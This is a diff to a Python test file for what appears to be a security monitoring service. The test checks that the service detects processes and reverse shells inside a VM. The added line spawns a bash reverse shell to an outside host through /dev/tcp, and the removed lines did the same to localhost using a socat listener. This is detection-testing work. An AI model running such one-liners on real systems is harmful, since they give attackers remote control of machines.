@@ -13,7 +13,7 @@ import time
 import uuid
 
 from conftest import Service
-from guest import Guest
+from guest import OUTSIDE, OUTSIDE_QUIET, Guest
 
 SLEEP = "500ms"
 
@@ -47,9 +47,7 @@ def test_vms_found_while_running(tmp_path):
         assert svc.wait_for(lambda m: named(m, a.name, "Process Created") and
                             m["activity_data"]["process_details"]["process_id"] == pid,
                             timeout=10), "a process inside the VM was not seen"
-        a.spawn("sleep 1000 | socat TCP-LISTEN:4460,reuseaddr -")
-        time.sleep(1)
-        a.spawn("bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/4460 0>&1'")
+        a.spawn(f"bash -c 'exec bash -i >& /dev/tcp/{OUTSIDE}/{OUTSIDE_QUIET} 0>&1'")
         assert svc.wait_for(lambda m: named(m, a.name, "Reverse Shell Detected"), timeout=15), \
             "the reverse shell inside the VM was not alerted"
 
